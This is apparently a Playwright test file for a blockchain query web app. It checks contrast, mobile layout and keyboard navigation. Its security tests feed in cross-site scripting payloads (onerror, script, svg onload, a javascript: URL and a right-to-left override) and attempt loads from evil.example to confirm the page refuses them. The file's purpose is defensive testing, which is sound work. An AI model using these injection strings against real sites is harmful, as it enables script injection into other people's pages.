import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { connect, drop, example, expectText, launch, node, open, openConnected, picture, toNode } from '../browser.ts'

let browser: Browser
beforeAll(async () => void (browser = await launch()))
afterAll(() => browser.close())

const alice = '5GrwvaEF5zXb26Fz9rcQpDWS57CtERHpNehXCPcNoHGKutQY'

async function askPortfolio(page: Page): Promise<void> {
  await page.getByRole('button', { name: /^portfolio\(/ }).click()
  await page.getByLabel('account').first().fill(alice)
  await page.getByLabel('quote').fill('1984')
  await page.getByLabel('quote').press('Enter')
  await page.locator('#answer .summary').waitFor()
}

/** Returns texts whose contrast with what is behind them is below 4.5, which is what WCAG AA asks of text. */
function faint(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const channels = (color: string) => (color.match(/[\d.]+/g) ?? []).map(Number)
    const luminance = (color: number[]) => {
      const [red, green, blue] = color.slice(0, 3).map((value) => (value <= 10.31475 ? value / 255 / 12.92 : ((value / 255 + 0.055) / 1.055) ** 2.4))
      return 0.2126 * red! + 0.7152 * green! + 0.0722 * blue!
    }
    const behind = (element: Element | null): number[] => {
      for (let at = element; at; at = at.parentElement) {
        const color = channels(getComputedStyle(at).backgroundColor)
        if (color.length === 3 || color[3]! > 0) return color
      }
      return [255, 255, 255]
    }
    return [...document.querySelectorAll('body *')].flatMap((element) => {
      const own = [...element.childNodes].some((child) => child.nodeType === Node.TEXT_NODE && child.textContent!.trim())
      if (!own || !element.checkVisibility() || element.matches('.skip, option, noscript')) return []
      const [text, back] = [luminance(channels(getComputedStyle(element).color)), luminance(behind(element))]
      const contrast = (Math.max(text, back) + 0.05) / (Math.min(text, back) + 0.05)
      return contrast < 4.5 ? [`${element.tagName}.${element.className}: ${contrast.toFixed(2)}`] : []
    })
  })
}

describe.each(['light', 'dark'] as const)('in %s mode', (colorScheme) => {
  test('all text can be read', async () => {
    const { page } = await openConnected(browser, toNode, { colorScheme })
    await askPortfolio(page)
    const back = await page.evaluate(() => getComputedStyle(document.body).backgroundColor)
    expect(back).toBe(colorScheme === 'light' ? 'rgb(245, 246, 250)' : 'rgb(20, 21, 28)')
    for (const details of await page.locator('details summary').all()) await details.click()
    await page.fill('#hash', 'x')
    await page.click('#hash-form button')
    expect(await faint(page)).toEqual([])
    await picture(page, colorScheme)
  })
})

test('on a phone, nothing is wider than the screen, and what is pressed is large enough', async () => {
  const { page } = await openConnected(browser, toNode, { viewport: { width: 360, height: 740 }, hasTouch: true, isMobile: true })
  await askPortfolio(page)
  for (const details of await page.locator('details summary').all()) await details.tap()
  const { wide, low } = await page.evaluate(() => ({
    wide: document.documentElement.scrollWidth,
    low: [...document.querySelectorAll('button, select, input:not([type=radio], [type=checkbox]), summary')]
      .filter((element) => element.checkVisibility() && element.getBoundingClientRect().height < 32)
      .map((element) => element.outerHTML.slice(0, 80)),
  }))
  expect(wide).toBeLessThanOrEqual(360)
  expect(low).toEqual([])
  await picture(page, 'phone')
})

test('by keyboard alone a chain is connected, a program chosen and asked, with a mark where the focus is', async () => {
  const { page } = await open(browser, toNode)
  /** Presses Tab until the element has the focus, and returns how often. */
  const tabTo = async (selector: string) => {
    for (let presses = 1; presses <= 60; presses++) {
      await page.keyboard.press('Tab')
      const { there, marked, named } = await page.evaluate((selector) => {
        const active = document.activeElement!
        const name = active.getAttribute('aria-label') ?? (active as HTMLInputElement).labels?.[0]?.textContent ?? active.textContent
        return { there: active.matches(selector), marked: getComputedStyle(active).outlineStyle !== 'none' || active === document.body, named: Boolean(name?.trim()) }
      }, selector)
      expect(marked, 'the focus is seen').toBe(true)
      expect(named, 'what has the focus has a name').toBe(true)
      if (there) return presses
    }
    throw new Error(`Tab does not reach ${selector}`)
  }
  expect(await tabTo('.skip')).toBe(1)
  await tabTo('#connect')
  await page.keyboard.press('Enter')
  await page.waitForSelector('.entrypoint >> nth=7')
  await tabTo('.entrypoint')
  while (!(await page.evaluate(() => document.activeElement!.textContent!.startsWith('sum_balance')))) await tabTo('.entrypoint')
  await page.keyboard.press('Enter')
  await page.locator('#form form').waitFor()
  expect(await page.evaluate(() => document.activeElement!.id)).toBe('ask')
  await tabTo('#form input')
  await page.keyboard.type('1984')
  await tabTo('button[aria-label="Add an item to accounts"]')
  await page.keyboard.press('Space')
  await page.keyboard.type(alice)
  await page.keyboard.press('Enter')
  await page.locator('.value .number').waitFor()
  expect(await page.evaluate(() => document.activeElement!.id)).toBe('answer')
  await tabTo('#link')
})

describe('what strangers write', () => {
  test('is text, and steers nothing', async () => {
    const { page, errors } = await open(browser, toNode)
    const [plain, hostile] = ['total-supply', '<b>hi\u202e</b>'].map((text) => Buffer.from(text).toString('hex'))
    expect(hostile).toHaveLength(plain!.length)
    // Labels are in an answer of the node.
    await page.routeWebSocket(`${node}/`, (socket) => {
      const server = socket.connectToServer()
      server.onMessage((message) => socket.send(String(message).replaceAll(plain!, hostile!)))
    })
    await page.reload()
    await connect(page)
    await expectText(page.locator('#registered'), /<b>hi.*<\/b>/)
    expect(await page.locator('#registered').textContent()).not.toContain('\u202e')
    expect(await page.locator('#registered b').count()).toBe(0)

    const markup = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>'
    const metadata = {
      types: { types: [{ id: 0, type: { path: ['guest', markup], def: { composite: { fields: [{ name: 'a', type: 1 }, { name: 'b', type: 1 }] } }, docs: [markup] } }, { id: 1, type: { def: { primitive: 'str' } } }] },
      extension_fns: [],
      entrypoints: [{ name: 'ask', inputs: [{ name: 'text', ty: 1 }, { name: 'more', ty: 0 }], output: 1, docs: [markup] }],
    }
    const { blob } = await example('prices')
    await drop(page, [{ name: `${markup.slice(0, 20)}.polkavm`, content: blob }, { name: 'a.json', content: JSON.stringify(metadata) }])
    await page.locator('#form form, #program-error:not([hidden])').first().waitFor()
    expect(await page.locator('#form img, #form script, #program-error img').count()).toBe(0)
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
    expect(errors).toEqual([])
  })

  test('in a result is text', async () => {
    const { page } = await open(browser, toNode)
    const text = '<svg onload="window.hacked=1">\u202e</svg>'
    await page.routeWebSocket(`${node}/`, (socket) => {
      const server = socket.connectToServer()
      const asked = new Set<unknown>()
      socket.onMessage((message) => {
        const { id, method } = JSON.parse(String(message))
        if (method === 'pvq_query') asked.add(id)
        server.send(message)
      })
      server.onMessage((message) => {
        const answer = JSON.parse(String(message))
        if (asked.has(answer.id) && answer.result) {
          const { at, metrics, engine } = answer.result
          const bytes = Buffer.from(text)
          answer.result = { at, metrics, engine, result: `0x${(bytes.length * 4).toString(16).padStart(2, '0')}${bytes.toString('hex')}` }
        }
        socket.send(JSON.stringify(answer))
      })
    })
    await page.reload()
    await connect(page)
    const { blob } = await example('prices')
    const metadata = { types: { types: [{ id: 0, type: { def: { primitive: 'str' } } }] }, extension_fns: [], entrypoints: [{ name: 'ask', inputs: [], output: 0 }] }
    await drop(page, [{ name: 'a.polkavm', content: blob }, { name: 'a.json', content: JSON.stringify(metadata) }])
    await page.getByRole('button', { name: 'Ask', exact: true }).click()
    await expectText(page.locator('.value .text'), /^<svg onload="window\.hacked=1">\\u\{202e\}<\/svg>$/)
    expect(await page.locator('.value svg').count()).toBe(0)
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
  })

  test('cannot become a script: the policy of the page refuses it', async () => {
    const { page } = await open(browser)
    const refused = await page.evaluate(async () => {
      const outcome: string[] = []
      const attempt = (name: string, run: () => unknown) => {
        try {
          run()
          outcome.push(`${name} is possible`)
        } catch {
          // As it should be.
        }
      }
      attempt('innerHTML', () => (document.body.innerHTML = '<p>'))
      attempt('a worker from elsewhere', () => new Worker('https://evil.example/worker.js'))
      attempt('a further policy', () => (window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }).trustedTypes.createPolicy('other', {}))
      // Not within the debugger's evaluation, which is allowed to.
      await new Promise<void>((resolve) => setTimeout(() => (attempt('eval', () => (0, eval)('1')), resolve())))
      if (await fetch('https://evil.example/').then(() => true, () => false)) outcome.push('a request elsewhere is possible')
      return outcome
    })
    expect(refused).toEqual([])
  })

  test('in a link is checked, and does nothing before the reader presses the button', async () => {
    const { page, sockets, requests } = await open(browser, `#node=${encodeURIComponent('javascript:alert(1)')}&program=zz&entrypoint=a&args=%5B%5D`)
    await expectText(page.locator('#link-notice'), "The link's node is not valid, and is left out. The link's program is not valid, and is left out. The link's args is not valid")
    expect(await page.inputValue('#url')).toBe('ws://127.0.0.1:9944')
    expect(sockets).toEqual([])
    expect(requests.filter((url) => !/\/(|main\.js|chunk-\w+\.js|style\.css|icon\.svg)$/.test(new URL(url).pathname))).toEqual([])
  })
})
